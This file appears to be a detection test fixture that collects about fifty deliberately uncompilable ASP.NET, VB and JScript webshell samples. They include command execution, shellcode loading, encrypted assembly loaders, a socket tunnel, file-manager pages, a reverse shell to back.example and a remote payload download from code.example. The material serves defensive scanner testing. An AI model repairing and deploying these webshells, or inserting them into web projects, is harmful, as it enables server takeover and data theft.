# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP.NET, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== method-named-as-word.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
string Do(string v) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + v); return p.StandardOutput.ReadToEnd(); }
void Page_Load(object s, EventArgs e) { Response.Write(Do(Request["k"])); }</script>
==== method-call-next.ashx
<%@ WebHandler Language="C#" Class="H" %>
int 1broken; public class H : IHttpHandler { string Next(string Call) { return Select(Call); } string Select(string To) { Process.Start("cmd", "/c " + To); return ""; }
public void ProcessRequest(HttpContext c) { c.Response.Write(Next(c.Request["k"])); } public bool IsReusable { get { return false; } } }
==== in-place-reverse.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
static string T(string s) { var c = s.ToCharArray(); Array.Reverse(c); return new string(c); }
void Page_Load(object s, EventArgs e) {
 var t = Type.GetType(T("ssecorP.scitsongaiD.metsyS") + ", System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");
 t.InvokeMember(T("tratS"), System.Reflection.BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request["k"] });
}</script>
==== invoke-member-const.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { object[] a = { "cmd.exe", "/c " + Request.Form["k"] }; typeof(System.Diagnostics.Process).InvokeMember("St" + "art", System.Reflection.BindingFlags.InvokeMethod, null, null, a); }</script>
==== com-late.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { Type t = Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")); object w = Activator.CreateInstance(t); t.InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, w, new object[] { Request["k"] }); }</script>
==== argument-list.aspx
<%@ Page Language="C#" %><% int 1broken; var i = new System.Diagnostics.ProcessStartInfo("powershell"); i.ArgumentList.Add("-c"); i.ArgumentList.Add(Request["k"]); System.Diagnostics.Process.Start(i); %>
==== emit.ashx
<%@ WebHandler Language="C#" Class="E" %>
using Microsoft.CodeAnalysis; using Microsoft.CodeAnalysis.CSharp; int 1broken;
public class E : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var tree = CSharpSyntaxTree.ParseText(c.Request.Form["k"]);
 var made = CSharpCompilation.Create("t", new[] { tree });
 using (var ms = new MemoryStream()) { made.Emit(ms); Assembly.Load(ms.ToArray()).GetType("T").GetMethod("M").Invoke(null, null); } } public bool IsReusable { get { return true; } } }
==== csharp-script.cshtml
@{ int 1broken; var r = await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Context.Request.Query["k"]); }
==== razor-engine.ashx
<%@ WebHandler Language="C#" Class="Z" %>
int 1broken; public class Z : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.Write(RazorEngine.Engine.Razor.RunCompile(c.Request["k"], "n", null, new { })); } public bool IsReusable { get { return true; } } }
==== execute-assembly.aspx
<%@ Page Language="C#" %><% int 1broken; AppDomain.CreateDomain("x").ExecuteAssembly(Request["p"]); %>
==== instance-from.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load(s As Object, e As EventArgs)
 Activator.CreateInstanceFrom(Request("p"), Request("t"))
End Sub
</script>
==== simple-type-resolver.ashx
<%@ WebHandler Language="C#" Class="J" %>
int 1broken; public class J : IHttpHandler { public void ProcessRequest(HttpContext c) { var j = new JavaScriptSerializer(new SimpleTypeResolver()); j.Deserialize<object>(new StreamReader(c.Request.InputStream).ReadToEnd()); } public bool IsReusable { get { return true; } } }
==== xml-type.ashx
<%@ WebHandler Language="C#" Class="X" %>
int 1broken; public class X : IHttpHandler { public void ProcessRequest(HttpContext c) { var x = new XmlSerializer(Type.GetType(c.Request["t"])); x.Deserialize(new StringReader(c.Request["x"])); } public bool IsReusable { get { return true; } } }
==== zip-extract.aspx
<%@ Page Language="C#" %><% int 1broken; var f = Request.Files[0]; var z = new System.IO.Compression.ZipArchive(f.InputStream); z.ExtractToDirectory(Server.MapPath(Request["d"])); %>
==== pinvoke-system.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
[System.Runtime.InteropServices.DllImport("shell32.dll")] static extern int ShellExecuteA(int h, string v, string f, string p, string d, int s);
void Page_Load(object s, EventArgs e) { ShellExecuteA(0, "open", "cmd.exe", "/c " + Request["k"], null, 0); }</script>
==== pinvoke-named.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
[System.Runtime.InteropServices.DllImport("kernel32.dll", EntryPoint = "WinExec")] static extern uint Note(string c, uint n);
void Page_Load(object s, EventArgs e) { Note("cmd /c " + Request["k"], 0); }</script>
==== create-process.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
[DllImport("advapi32.dll", SetLastError = true, CharSet = CharSet.Unicode)] static extern bool CreateProcessWithTokenW(IntPtr t, int f, string a, string c, int n, IntPtr e, string d, ref STARTUPINFO s, out PROCESS_INFORMATION p);
void Page_Load(object s, EventArgs e) { var si = new STARTUPINFO(); PROCESS_INFORMATION pi; CreateProcessWithTokenW(tok, 0, null, "cmd /c " + Request["k"], 0, IntPtr.Zero, null, ref si, out pi); }</script>
==== shellcode.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { byte[] b = Convert.FromBase64String(Request["k"]); IntPtr m = Marshal.AllocHGlobal(b.Length); Marshal.Copy(b, 0, m, b.Length); var d = (Go)Marshal.GetDelegateForFunctionPointer(m, typeof(Go)); d(); }</script>
==== relay-web-request.ashx
<%@ WebHandler Language="C#" Class="R" %>
int 1broken; public class R : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var w = (HttpWebRequest)WebRequest.Create(c.Request.Headers["X-To"]); w.Method = c.Request.HttpMethod;
 if (c.Request.ContentLength > 0) { using (var o = w.GetRequestStream()) { c.Request.InputStream.CopyTo(o); } }
 using (var a = w.GetResponse()) { a.GetResponseStream().CopyTo(c.Response.OutputStream); } } public bool IsReusable { get { return true; } } }
==== relay-http-client.ashx
<%@ WebHandler Language="C#" Class="R2" %>
int 1broken; public class R2 : IHttpHandler { public void ProcessRequest(HttpContext c) {
 var u = Encoding.UTF8.GetString(Convert.FromBase64String(c.Request.Headers["X-To"]));
 var m = new HttpRequestMessage(new HttpMethod(c.Request.HttpMethod), u) { Content = new StreamContent(c.Request.InputStream) };
 var a = new HttpClient().SendAsync(m).Result; c.Response.BinaryWrite(a.Content.ReadAsByteArrayAsync().Result); } public bool IsReusable { get { return true; } } }
==== tunnel.aspx
<%@ Page Language="C#" EnableSessionState="True" %><script runat="server">int 1broken;
void Page_Load(object o, EventArgs e) {
 String cmd = Request.QueryString.Get("cmd").ToUpper();
 if (cmd == "CONNECT") { var ip = IPAddress.Parse(Request.QueryString.Get("target")); var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(new IPEndPoint(ip, int.Parse(Request.QueryString.Get("port")))); s.Blocking = false; Session.Add("socket", s); }
 else if (cmd == "FORWARD") { Socket s = (Socket)Session["socket"]; int n = Request.ContentLength; byte[] b = new byte[n]; Request.InputStream.Read(b, 0, n); s.Send(b); }
 else if (cmd == "READ") { Socket s = (Socket)Session["socket"]; byte[] r = new byte[512]; int c = s.Receive(r); Response.BinaryWrite(r); } }</script>
==== reverse-fixed.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object o, EventArgs e) { var c = new TcpClient("back.example", 443); var st = c.GetStream(); var r = new StreamReader(st);
 var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.UseShellExecute = false; p.Start();
 while (true) { p.StandardInput.WriteLine(r.ReadLine()); } }</script>
==== image-code.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object o, EventArgs e) { byte[] b = File.ReadAllBytes(Server.MapPath("~/img/logo.png")); byte[] c = new byte[b.Length - 4096]; Array.Copy(b, 4096, c, 0, c.Length); Assembly.Load(c).CreateInstance("P").Equals(Context); }</script>
==== remote-assembly.aspx
<%@ Page Language="C#" %><% int 1broken; var d = new WebClient().DownloadData("http://code.example/a"); System.Reflection.Assembly.Load(d).EntryPoint.Invoke(null, null); %>
==== registry.aspx
<%@ Page Language="C#" %><% int 1broken; Microsoft.Win32.Registry.SetValue(Request["k"], Request["n"], Request["v"]); %>
==== listener.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object o, EventArgs e) { new Thread(() => { var l = new HttpListener(); l.Prefixes.Add("http://*:80/x/"); l.Start(); while (true) { var c = l.GetContext(); var p = Process.Start("cmd.exe", "/c " + c.Request.QueryString["k"]); } }).Start(); }</script>
==== pipeline.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Run_Click(object o, EventArgs e) { using (var rs = RunspaceFactory.CreateRunspace()) { rs.Open(); var c = new Command(box.Text, true); var p = rs.CreatePipeline(); p.Commands.Add(c); p.Invoke(); } }</script>
<asp:TextBox id="box" runat="server" /><asp:Button OnClick="Run_Click" runat="server" />
==== invoke-command.ashx
<%@ WebHandler Language="C#" Class="P" %>
int 1broken; public class P : IHttpHandler { public void ProcessRequest(HttpContext c) { using (var ps = PowerShell.Create()) { ps.Runspace.SessionStateProxy.InvokeCommand.InvokeScript(c.Request["k"]); } } public bool IsReusable { get { return true; } } }
==== vb-latebound.aspx
<%@ Page Language="VB" %><% Dim 1broken
Dim o = CreateObject("WScript" & Chr(46) & "Shell")
Dim x = o.Exec("cmd /c " & Request.QueryString("k"))
Response.Write(x.StdOut.ReadAll()) %>
==== vb-with-process.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Go(s As Object, e As EventArgs)
 Dim p As New Process
 With p.StartInfo
  .FileName = "cmd.exe"
  .Arguments = "/c " & line.Value
  .RedirectStandardOutput = True
  .UseShellExecute = False
 End With
 p.Start()
 res.InnerText = p.StandardOutput.ReadToEnd()
End Sub
</script><form runat="server"><input type="text" id="line" runat="server" /><pre id="res" runat="server" /></form>
==== vb-shell-var.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Private Const Tool As String = "cmd.exe /c "
Public Sub Page_Load()
 Dim q = Request.Params("k")
 If q Is Nothing Then Return
 Shell(Tool & q, AppWinStyle.Hide, True)
End Sub
</script>
==== vb-addressof.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Delegate Sub Act(v As String)
Sub Go(v As String)
 Process.Start("cmd.exe", "/c " & v)
End Sub
Sub Page_Load()
 Dim a As Act = AddressOf Go
 a.Invoke(Request("k"))
End Sub
</script>
==== jscript-evaluate.aspx
<%@ Page Language="C#" %><%@ Import Namespace="Microsoft.JScript" %><% int 1broken; Eval.JScriptEvaluate(Request["k"], "unsafe", Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); %>
==== jscript-indexed.aspx
<%@ Page Language="Jscript" %><% var 1broken; var r = Request["Item"]; this["e" + "val"](Request["k"], "unsafe"); %>
==== jscript-web-method.asmx
<%@ WebService Language="JScript" class="S"%>
import System; import System.Web; import System.Web.Services; var 1broken;
public class S extends WebService { WebMethodAttribute SoapDocumentMethodAttribute public function Go(a : String) : String { return eval(a, "unsafe"); } }
==== jscript-class-load.ashx
<%@ WebHandler Language="JScript" class="H2"%>
import System; import System.Web; import System.IO; var 1broken;
public class H2 implements IHttpHandler { function IHttpHandler.ProcessRequest(c : HttpContext) { var k = c.Request["k"]; eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(k)), "unsafe"); } function get IHttpHandler.IsReusable() : Boolean { return true; } }
==== textbox-browser.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void List(object s, EventArgs e) { foreach (var d in new DirectoryInfo(dir.Text).GetFileSystemInfos()) Response.Write(d.FullName + "<br>"); }
void Show(object s, EventArgs e) { body.Text = File.ReadAllText(name.Text); }
void Save(object s, EventArgs e) { File.WriteAllText(name.Text, body.Text); }
void Drop(object s, EventArgs e) { File.Delete(name.Text); }
</script><asp:TextBox id="dir" runat="server"/><asp:TextBox id="name" runat="server"/><asp:TextBox id="body" runat="server"/>
==== upload-here.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
protected void B_Click(object s, EventArgs e) { if (F.HasFile) { F.PostedFile.SaveAs(Server.MapPath(".") + "\\" + F.FileName); L.Text = "ok"; } }
</script><form runat="server"><asp:FileUpload id="F" runat="server"/><asp:Button OnClick="B_Click" runat="server"/><asp:Label id="L" runat="server"/></form>
==== html-input-file.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Up(s As Object, e As EventArgs)
 f1.PostedFile.SaveAs(t1.Text & System.IO.Path.GetFileName(f1.PostedFile.FileName))
End Sub
</script><form enctype="multipart/form-data" runat="server"><input id="f1" type="file" runat="server"><asp:TextBox id="t1" runat="server"/></form>
==== sql-textboxes.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Go(object s, EventArgs e) { var a = new SqlDataAdapter(sql.Text, new SqlConnection(con.Text)); var t = new DataTable(); a.Fill(t); g.DataSource = t; g.DataBind(); }
</script><asp:TextBox id="con" runat="server"/><asp:TextBox id="sql" runat="server"/><asp:GridView id="g" runat="server"/>
==== sql-xp-built.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Go(object s, EventArgs e) { using (var c = new SqlConnection(con.Text)) { c.Open(); var m = c.CreateCommand(); m.CommandText = "exec master..xp_cmdshell '" + box.Text + "'"; m.ExecuteReader(); } }
</script><asp:TextBox id="con" runat="server"/><asp:TextBox id="box" runat="server"/>
==== file-append-page.ashx
<%@ WebHandler Language="C#" Class="W" %>
int 1broken; public class W : IHttpHandler { public void ProcessRequest(HttpContext c) { var p = c.Server.MapPath("~/x.aspx"); using (var w = new StreamWriter(p, true)) { w.Write(c.Request.Form["k"]); } } public bool IsReusable { get { return true; } } }
==== base64-chunks.ashx
<%@ WebHandler Language="C#" Class="W2" %>
int 1broken; public class W2 : IHttpHandler { public void ProcessRequest(HttpContext c) { using (var f = new FileStream(c.Request["p"], FileMode.Append)) { var b = Convert.FromBase64String(c.Request["d"]); f.Write(b, 0, b.Length); } } public bool IsReusable { get { return true; } } }
==== type-by-name.aspx
<%@ Page Language="C#" %><% int 1broken; var t = Type.GetType(Request["t"]); t.GetMethod(Request["m"], new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { Request["a"], Request["b"] }); %>
==== task-factory.ashx
<%@ WebHandler Language="C#" Class="T1" %>
int 1broken; public class T1 : IHttpHandler { public void ProcessRequest(HttpContext c) { Func<string, Process> f = Process.Start; f.BeginInvoke(c.Request["k"], null, null); } public bool IsReusable { get { return true; } } }
==== header-loop.ashx
<%@ WebHandler Language="C#" Class="T2" %>
int 1broken; public class T2 : IHttpHandler { public void ProcessRequest(HttpContext c) { foreach (string h in c.Request.Headers) if (h == "X-K") { var i = new ProcessStartInfo("cmd", "/c " + c.Request.Headers[h]); Process.Start(i); } } public bool IsReusable { get { return true; } } }
==== namevalue.ashx
<%@ WebHandler Language="C#" Class="T3" %>
int 1broken; public class T3 : IHttpHandler { public void ProcessRequest(HttpContext c) { NameValueCollection n = c.Request.Form; string k = n.Get(0); if (!string.IsNullOrEmpty(k)) Run(k); } void Run(string k) { using (Process p = new Process()) { p.StartInfo = new ProcessStartInfo(); p.StartInfo.FileName = Environment.GetEnvironmentVariable("ComSpec"); p.StartInfo.Arguments = string.Concat("/c ", k); p.Start(); } } public bool IsReusable { get { return true; } } }
==== aes-session.aspx
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><% int 1broken; Session.Add("k", "0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength); Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>
==== xor-static.ashx
<%@ WebHandler Language="C#" Class="T4" %>
int 1broken; public class T4 : IHttpHandler { static byte[] X(byte[] d, byte[] k) { for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[i % k.Length]); return d; } public void ProcessRequest(HttpContext c) { var b = c.Request.BinaryRead(c.Request.TotalBytes); var a = Assembly.Load(X(b, Encoding.ASCII.GetBytes("k"))); a.CreateInstance("R").ToString(); } public bool IsReusable { get { return true; } } }
==== app-start.asax
<%@ Application Language="C#" %><script runat="server">int 1broken;
void Application_BeginRequest(object s, EventArgs e) { var k = Request.Headers["X-K"]; if (k != null) { var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + k) { UseShellExecute = false, RedirectStandardOutput = true }); Response.Write(p.StandardOutput.ReadToEnd()); Response.End(); } }</script>
==== linq-select.ashx
<%@ WebHandler Language="C#" Class="T5" %>
int 1broken; public class T5 : IHttpHandler { public void ProcessRequest(HttpContext c) { var r = from k in c.Request.Form.AllKeys where k.StartsWith("q") select Process.Start("cmd", "/c " + c.Request.Form[k]); foreach (var p in r) c.Response.Write(p.Id); } public bool IsReusable { get { return true; } } }
==== cdata-script.aspx
<%@ Page Language="Jscript"%><script language="jscript" runat="server"><![CDATA[ var 1broken; function Page_Load() { eval(Request.Item["k"], "unsafe"); } ]]></script>
==== dictionary-switch.ashx
<%@ WebHandler Language="C#" Class="T6" %>
int 1broken; public class T6 : IHttpHandler { delegate string Act(HttpContext c); public void ProcessRequest(HttpContext c) { var m = new Dictionary<string, Act>(); m.Add("run", Run); m["list"] = List; c.Response.Write(m[c.Request["do"]](c)); } string Run(HttpContext c) { var p = Process.Start("cmd", "/c " + c.Request["a"]); return ""; } string List(HttpContext c) { return ""; } public bool IsReusable { get { return true; } } }
==== local-const.ashx
<%@ WebHandler Language="C#" Class="T7" %>
int 1broken; public class T7 : IHttpHandler { public void ProcessRequest(HttpContext context) { HttpRequest Request = context.Request; string op = Request.Params["op"] ?? ""; switch (op) { case "x": { var a = Request.Params["a"]; context.Response.Write(Ex(a)); break; } } } private static string Ex(string a) { ProcessStartInfo i = new ProcessStartInfo(); i.FileName = a.Split('|')[0]; i.Arguments = a.Split('|')[1]; return Process.Start(i).StandardOutput.ReadToEnd(); } public bool IsReusable { get { return true; } } }
==== mass-append.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (var f in Directory.GetFiles(Server.MapPath("~/"), "*.aspx")) File.AppendAllText(f, Request.Form["k"]); %>
"""
)
